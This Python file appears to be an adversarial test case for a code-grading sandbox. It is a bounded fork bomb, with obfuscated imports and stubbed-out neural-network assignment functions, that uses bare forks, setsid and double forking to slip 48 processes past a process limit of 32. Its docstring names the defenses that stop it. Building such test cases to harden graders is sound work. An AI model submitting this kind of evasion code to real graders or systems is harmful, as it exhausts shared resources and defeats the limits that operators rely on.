"""Attack: a fork bomb that the process-count limit does not see.

The kit counts the processes of a run as the worker, its descendants, and any
process whose /proc/<pid>/environ carries the run's token.  Each process this
file starts is made with a bare os.fork() (no exec: /proc shows the grader's
original environment, without the token), leaves its session with setsid()
and is orphaned by a double fork, so it is neither a descendant nor marked:
48 of them run while the limit is 32.  (Bounded here: each one sleeps 45 s and
notes its pid in /tmp/adversarial-leftovers/; a real one would fork for ever.)

A secure grader limits processes where they cannot be escaped: RLIMIT_NPROC
for a per-submission uid, a cgroup pids.max, or a PID namespace it tears down.
"""
_imp = __import__
_os, _time = _imp("o" + "s"), _imp("ti" + "me")

for _ in range(48):
    if _os.fork() == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                try:
                    _os.makedirs("/tmp/adversarial-leftovers", exist_ok=True)
                    open(f"/tmp/adversarial-leftovers/fork_bomb.{_os.getpid()}", "w").close()
                except OSError:
                    pass
                _time.sleep(45)
        finally:
            _os._exit(0)
    _os.wait()


def _stub(*args, **kwargs):
    raise NotImplementedError("nothing implemented")


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
